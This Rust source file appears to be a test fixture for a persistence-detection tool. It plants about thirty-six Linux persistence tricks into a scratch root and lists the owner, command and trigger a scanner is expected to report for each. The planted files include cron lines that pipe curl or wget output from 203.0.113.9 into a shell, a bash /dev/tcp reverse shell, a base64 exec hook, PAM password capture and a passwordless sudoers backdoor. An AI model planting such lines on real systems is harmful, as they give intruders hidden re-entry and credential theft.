//! Thirty-odd ways in which an intruder comes back, laid into a root: EtherRAT's five, and others. Nothing of it is run.

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result, bail};
use serde_json::Value;

use crate::world::{SERVICE_HOME, SERVICE_USER};

/// One trick, and what the table must say of it.
pub struct Trick {
    /// What kind of place.
    pub place: &'static str,
    /// The file, from the root on.
    pub path: &'static str,
    text: &'static str,
    who: &'static str,
    what: &'static str,
    when: &'static str,
}

const fn trick(
    place: &'static str,
    path: &'static str,
    text: &'static str,
    [who, what, when]: [&'static str; 3],
) -> Trick {
    Trick { place, path, text, who, what, when }
}

/// The five of EtherRAT come first.
pub const TRICKS: &[Trick] = &[
    trick(
        "systemd_unit",
        "/home/wasiluser/.config/systemd/user/8ae2c1.service",
        "[Unit]\nDescription=x\n[Service]\nExecStart=%h/.local/share/.05bf0e9b/node/bin/node %h/.local/share/.05bf0e9b/.4dai8ovb.js\nRestart=always\n[Install]\nWantedBy=default.target\n",
        ["wasiluser", ".4dai8ovb.js", "when 8ae2c1.service starts; wanted by default.target"],
    ),
    trick(
        "autostart",
        "/home/wasiluser/.config/autostart/8ae2c1.desktop",
        "[Desktop Entry]\nType=Application\nName=System\nExec=/home/wasiluser/.local/share/.05bf0e9b/node/bin/node /home/wasiluser/.local/share/.05bf0e9b/.4dai8ovb.js\nHidden=false\n",
        ["wasiluser", ".4dai8ovb.js", "when a desktop session begins"],
    ),
    trick(
        "cron_of_user",
        "/var/spool/cron/crontabs/wasiluser",
        "@reboot sleep 30 && /home/wasiluser/.local/share/.05bf0e9b/node/bin/node /home/wasiluser/.local/share/.05bf0e9b/.4dai8ovb.js\n",
        ["wasiluser", ".4dai8ovb.js", "every start of cron (boot)"],
    ),
    trick(
        "shell_start",
        "/home/wasiluser/.bashrc",
        "# ~/.bashrc\nHISTSIZE=1000\n(nohup \"$HOME/.local/share/.05bf0e9b/node/bin/node\" \"$HOME/.local/share/.05bf0e9b/.4dai8ovb.js\" >/dev/null 2>&1 &)\n",
        ["wasiluser", ".4dai8ovb.js", "when an interactive shell starts"],
    ),
    trick(
        "shell_start",
        "/home/wasiluser/.profile",
        "nohup ~/.local/share/.05bf0e9b/node/bin/node ~/.local/share/.05bf0e9b/.4dai8ovb.js >/dev/null 2>&1 &\n",
        ["wasiluser", ".4dai8ovb.js", "when a login shell starts"],
    ),
    trick(
        "systemd_unit",
        "/etc/systemd/system/dbus-helper.service",
        "[Service]\nUser=www-data\nExecStart=/var/tmp/dbus-helper --quiet\n[Install]\nWantedBy=multi-user.target\n",
        [
            "www-data",
            "/var/tmp/dbus-helper --quiet",
            "when dbus-helper.service starts; wanted by multi-user.target",
        ],
    ),
    trick(
        "systemd_unit",
        "/etc/systemd/system/beat.timer",
        "[Timer]\nOnCalendar=*:0/5\nUnit=dbus-helper.service\n",
        ["www-data", "dbus-helper.service", "OnCalendar=*:0/5"],
    ),
    trick(
        "systemd_drop_in",
        "/etc/systemd/system/dbus-helper.service.d/override.conf",
        "[Service]\nExecStartPost=/dev/shm/.post\n",
        ["www-data", "/dev/shm/.post", "when dbus-helper.service has started"],
    ),
    trick(
        "systemd_generator",
        "/etc/systemd/system-generators/systemd-late",
        "#!/bin/sh\n/dev/shm/late\n",
        ["root", "/dev/shm/late", "at every boot"],
    ),
    trick(
        "systemd_environment_generator",
        "/etc/systemd/user-environment-generators/10-lang",
        "#!/bin/sh\necho LD_PRELOAD=/dev/shm/l.so\n",
        ["root", "LD_PRELOAD=/dev/shm/l.so", "when a systemd manager starts"],
    ),
    trick(
        "crontab",
        "/etc/cron.d/update",
        "*/15 * * * * root curl -fsSL http://203.0.113.9/x | bash\n",
        ["root", "curl -fsSL http://203.0.113.9/x | bash", "every 15 minutes"],
    ),
    trick(
        "cron_script",
        "/etc/cron.hourly/sync",
        "#!/bin/sh\necho aWQK | base64 -d | sh\n",
        ["root", "echo aWQK | base64 -d | sh", "hourly"],
    ),
    trick(
        "at",
        "/var/spool/cron/atjobs/a0000101c3a1f0",
        "#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail wasiluser 0\numask 22\ncd /home/wasiluser || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/.late\n",
        ["wasiluser", "/tmp/.late", "once, at 20"],
    ),
    trick(
        "script",
        "/etc/rc.local",
        "#!/bin/sh -e\n/dev/shm/kworker &\nexit 0\n",
        ["root", "/dev/shm/kworker", "at boot (rc.local)"],
    ),
    trick(
        "init_script",
        "/etc/init.d/netns",
        "#!/bin/sh\n### BEGIN INIT INFO\nstart() { LD_PRELOAD=/var/tmp/n.so /usr/sbin/cron; }\n",
        ["root", "LD_PRELOAD=/var/tmp/n.so", "at the runlevels"],
    ),
    trick(
        "runlevel_link",
        "/etc/rc2.d/S99netns",
        "-> /var/tmp/netns",
        ["root", "/var/tmp/netns", "at runlevel 2"],
    ),
    trick(
        "shell_start",
        "/etc/profile.d/locale.sh",
        "LANG=C\n. /var/tmp/.locale\n",
        ["every user", ". /var/tmp/.locale", "when a login shell starts"],
    ),
    trick(
        "authorized_keys",
        "/root/.ssh/authorized_keys",
        "command=\"/tmp/shell\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK backup@host\n",
        ["root", "/tmp/shell", "at a login with the key ssh-ed25519"],
    ),
    trick(
        "ssh_server",
        "/etc/ssh/sshd_config.d/10-keys.conf",
        "AuthorizedKeysCommand /var/tmp/keys %u\nAuthorizedKeysCommandUser nobody\n",
        ["nobody", "/var/tmp/keys %u", "at every attempt to log in by key"],
    ),
    trick(
        "ssh_rc",
        "/home/wasiluser/.ssh/rc",
        "/dev/shm/rc &\n",
        ["wasiluser", "/dev/shm/rc &", "at every login by ssh"],
    ),
    trick(
        "pam",
        "/etc/pam.d/sshd",
        "auth optional pam_exec.so quiet expose_authtok /var/tmp/pass\n",
        ["root", "pam_exec.so quiet expose_authtok /var/tmp/pass", "PAM: auth of sshd"],
    ),
    trick(
        "udev",
        "/etc/udev/rules.d/75-net.rules",
        "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '/dev/shm/net &'\"\n",
        ["root", "/dev/shm/net", "on a device event: ACTION==add, SUBSYSTEM==net"],
    ),
    trick(
        "preload",
        "/etc/ld.so.preload",
        "/usr/local/lib/libselinux.so.9\n",
        ["every user", "/usr/local/lib/libselinux.so.9", "with every program"],
    ),
    trick(
        "modprobe",
        "/etc/modprobe.d/usb.conf",
        "install usb-storage /var/tmp/usb; /sbin/modprobe --ignore-install usb-storage\n",
        ["root", "/var/tmp/usb;", "when the kernel module usb-storage is asked for"],
    ),
    trick(
        "apt",
        "/etc/apt/apt.conf.d/99clean",
        "APT::Update::Pre-Invoke {\"/tmp/.apt || true\";};\n",
        ["root", "/tmp/.apt || true", "apt: apt::update::pre-invoke"],
    ),
    trick(
        "git",
        "/root/.gitconfig",
        "[core]\n\thooksPath = /root/.cache/.hooks\n",
        ["root", "/root/.cache/.hooks", "git: core.hookspath"],
    ),
    trick(
        "motd",
        "/etc/update-motd.d/20-help",
        "#!/bin/sh\nnohup /var/tmp/motd >/dev/null 2>&1 &\n",
        ["root", "/var/tmp/motd", "at every login (message of the day)"],
    ),
    trick(
        "network_hook",
        "/etc/NetworkManager/dispatcher.d/30-up",
        "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
        ["root", "/dev/tcp/203.0.113.9/443", "when the network changes"],
    ),
    trick(
        "network_hook",
        "/etc/network/if-up.d/route",
        "#!/bin/sh\n/dev/shm/route\n",
        ["root", "/dev/shm/route", "when a network interface goes up"],
    ),
    trick(
        "logrotate",
        "/etc/logrotate.d/auth",
        "/var/log/auth.log {\n  postrotate\n    /var/tmp/rotate\n  endscript\n}\n",
        ["root", "/var/tmp/rotate", "logrotate: postrotate"],
    ),
    trick(
        "binfmt",
        "/etc/binfmt.d/elf.conf",
        ":elf:M::\\x7fELF::/var/tmp/elf:C\n",
        ["every user", "/var/tmp/elf", "when a file of the format elf"],
    ),
    trick(
        "container",
        "/var/lib/docker/containers/4f/config.v2.json",
        "{\"ID\":\"4f\",\"Name\":\"/pause\",\"Path\":\"sh\",\"Args\":[\"-c\",\"/dev/shm/x\"],\"Config\":{\"Image\":\"alpine\",\"User\":\"\"}}",
        ["root of the container pause", "/dev/shm/x", "restart policy always"],
    ),
    trick(
        "cloud_script",
        "/var/lib/cloud/scripts/per-boot/00.sh",
        "#!/bin/sh\nwget -qO- http://203.0.113.9/b | sh\n",
        ["root", "wget -qO-", "at every boot (cloud-init)"],
    ),
    trick(
        "python_path",
        "/home/wasiluser/.local/lib/python3.11/site-packages/x.pth",
        "import base64;exec(base64.b64decode('cHJpbnQoMSkK'))\n",
        ["wasiluser", "import base64", "at every start of Python"],
    ),
    trick(
        "initramfs",
        "/etc/initramfs-tools/hooks/crypt",
        "#!/bin/sh\ncp /dev/shm/init $DESTDIR/init; LD_PRELOAD=/dev/shm/i.so true\n",
        ["root", "LD_PRELOAD=/dev/shm/i.so", "when an initramfs is built"],
    ),
    trick(
        "sudoers",
        "/etc/sudoers.d/www",
        "www-data ALL=(root) NOPASSWD: /var/tmp/root\n",
        ["root", "/var/tmp/root", "sudo without a password, by www-data"],
    ),
];

/// Where a path of the host lies below `root`.
pub fn below(root: &Path, path: &str) -> PathBuf {
    root.join(path.trim_start_matches('/'))
}

/// Lays all of them.
pub fn plant(root: &Path) -> Result<()> {
    let passwd = below(root, "/etc/passwd");
    let known = fs::read_to_string(&passwd).context("read passwd")?;
    if !known.contains("wasiluser") {
        fs::write(
            &passwd,
            format!("{known}wasiluser:x:{SERVICE_USER}:{SERVICE_USER}::{SERVICE_HOME}:/bin/bash\n"),
        )?;
    }
    for one in TRICKS {
        let path = below(root, one.path);
        fs::create_dir_all(path.parent().context("no parent")?)?;
        if let Some(target) = one.text.strip_prefix("-> ") {
            symlink(target, &path)?;
            continue;
        }
        // What a package brought there stays.
        let before = fs::read_to_string(&path).unwrap_or_default();
        fs::write(&path, before + one.text).with_context(|| format!("write {}", path.display()))?;
        let mode = if one.text.starts_with("#!") { 0o755 } else { 0o644 };
        fs::set_permissions(&path, fs::Permissions::from_mode(mode))?;
        if one.who == "wasiluser" {
            chown(&path, Some(SERVICE_USER), Some(SERVICE_USER))?;
        }
    }
    let beside = below(root, "/var/lib/docker/containers/4f/hostconfig.json");
    fs::write(beside, r#"{"RestartPolicy":{"Name":"always"},"Binds":null}"#)?;
    // Two of the targets exist: these are hashed, and taken.
    let node = below(root, "/home/wasiluser/.local/share/.05bf0e9b/.4dai8ovb.js");
    fs::create_dir_all(node.parent().context("no parent")?)?;
    fs::write(node, "setInterval(poll, 500)\n")?;
    let helper = below(root, "/var/tmp/dbus-helper");
    fs::create_dir_all(helper.parent().context("no parent")?)?;
    fs::write(helper, "\x7fELF not really\n")?;
    Ok(())
}

/// The row of a trick: right who, what and when, or what there is instead.
pub fn row<'a>(rows: &'a [Value], trick: &Trick) -> Result<&'a Value> {
    let of_file: Vec<&Value> =
        rows.iter().filter(|row| row["path"] == trick.path && row["place"] == trick.place).collect();
    let has = |row: &Value, key: &str, part: &str| row[key].as_str().is_some_and(|text| text.contains(part));
    let found = of_file
        .iter()
        .find(|row| row["who"] == trick.who && has(row, "what", trick.what) && has(row, "when", trick.when));
    match found {
        Some(row) => Ok(row),
        None => bail!("{} ({}) is not told right: {of_file:#?}", trick.path, trick.place),
    }
}
